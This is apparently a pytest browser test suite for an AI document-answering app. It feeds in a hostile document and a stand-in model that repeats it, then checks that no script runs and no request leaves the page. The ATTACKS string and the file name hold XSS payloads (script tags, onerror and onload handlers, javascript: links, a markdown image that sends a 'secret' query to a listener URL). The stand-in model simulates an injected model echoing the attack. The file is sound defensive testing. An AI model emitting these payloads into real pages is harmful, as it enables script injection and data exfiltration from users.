"""Hostile documents and a model that repeats them: nothing runs, nothing is fetched."""

from __future__ import annotations

from collections.abc import Iterator

import pytest
from app_doubles import Box, LanguageModelDouble
from browser import Page
from loopback import Canary, canary

pytestmark = pytest.mark.browser

ATTACKS = """\
How to roll back a failed upgrade: ![x]({url}/?q=secret) ![y][ref] [click]({url}/link)
rollback <{url}/auto> {url}/bare <img src="{url}/img" onerror="window.executed=1">
rollback <script src="{url}/js"></script> <script>window.executed=2</script>
rollback <svg onload="window.executed=3"> <iframe src="{url}/frame">
rollback <style>@import url({url}/css)</style> <a href="javascript:window.executed=4">x</a>
rollback <link rel=prefetch href="{url}/prefetch">
rollback <meta http-equiv=refresh content="0;url={url}/meta">

[ref]: {url}/reference
"""
NAME = "<img src={url} onerror=window.executed=5>\"'.md"


@pytest.fixture
def listening() -> Iterator[Canary]:
    with canary() as listening:
        yield listening


def see_everything(page: Page, box: Box, listening: Canary) -> None:
    """Put the hostile document in, and look at it in every way that the page offers."""
    text = ATTACKS.format(url=listening.url)
    box.library.hold(NAME.format(url=listening.url), text, title=text)
    page.open()
    page.run(
        "window.violations = 0;"
        "document.addEventListener('securitypolicyviolation', () => { window.violations += 1; })"
    )
    page.ask("roll back a failed upgrade")
    for source in page.all("button.source"):
        source.click()
        page.wait(lambda: page.find("#reader mark"))
        page.get("#reader-close").click()
    for document in page.all("section .document button.name"):
        document.click()
        page.wait(lambda: "window.executed" in page.text("#reader-text"))
        page.get("#reader-close").click()


def test_a_hostile_document_is_only_text(page: Page, box: Box, listening: Canary) -> None:
    see_everything(page, box, listening)
    assert "![x]" in page.text("#answers")
    assert page.run("return window.executed ?? null") is None
    assert page.run("return window.violations") == 0, "the page itself must not even try"
    assert page.all("#answers :is(img, a, script, iframe, svg:not(.icon), style, link)") == []
    assert listening.requests == []


class TestWithAModelThatRepeatsIt:
    """The model is talked into writing the attack itself."""

    @pytest.fixture
    def model(self, listening: Canary) -> LanguageModelDouble:
        return LanguageModelDouble([*ATTACKS.format(url=listening.url), " [1]"])

    def test_the_answer_is_only_text(self, page: Page, box: Box, listening: Canary) -> None:
        see_everything(page, box, listening)
        assert "<script>" in page.text("#answers .body")
        assert page.run("return window.executed ?? null") is None
        assert page.run("return window.violations") == 0
        assert page.all(".body :is(img, a, script, iframe, svg, style, link)") == []
        assert listening.requests == []


def test_no_request_leaves_the_origin(page: Page) -> None:
    page.driver.get_log("browser")  # What other tests left.
    page.ask("How do I roll back a failed upgrade?")
    page.get("button.marker").click()
    page.wait(lambda: page.find("#reader mark"))
    asked = page.run("return performance.getEntriesByType('resource').map((e) => e.name)")
    assert len(asked) > 8
    assert [url for url in asked if not url.startswith(f"{page.url}/")] == []
    serious = [entry for entry in page.driver.get_log("browser") if entry["level"] == "SEVERE"]
    assert serious == []


def test_the_policy_stops_what_a_bug_would_let_through(page: Page, listening: Canary) -> None:
    """A second wall, tested apart: even a page that did insert such elements fetches nothing."""
    page.run(
        "const image = new Image(); image.src = arguments[0] + '/image';"
        "document.body.append(image);"
        "const frame = document.createElement('iframe'); frame.src = arguments[0] + '/frame';"
        "document.body.append(frame);"
        "window.blocked = 0; document.addEventListener('securitypolicyviolation',"
        " () => { window.blocked += 1; });"
        "fetch(arguments[0] + '/fetch').catch(() => {});",
        listening.url,
    )
    page.wait(lambda: page.run("return window.blocked") >= 1)
    parse = "try { document.body.innerHTML = '<b>'; return 'set'; } catch { return 'stopped'; }"
    assert page.run(parse) == "stopped"
    assert listening.requests == []
